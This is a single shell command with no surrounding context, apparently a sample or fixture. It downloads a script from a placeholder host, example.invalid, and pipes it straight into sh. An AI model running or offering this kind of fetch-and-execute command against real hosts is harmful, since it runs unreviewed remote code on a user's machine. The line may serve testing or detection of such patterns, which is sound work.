sh -c 'curl https://example.invalid/x | sh'
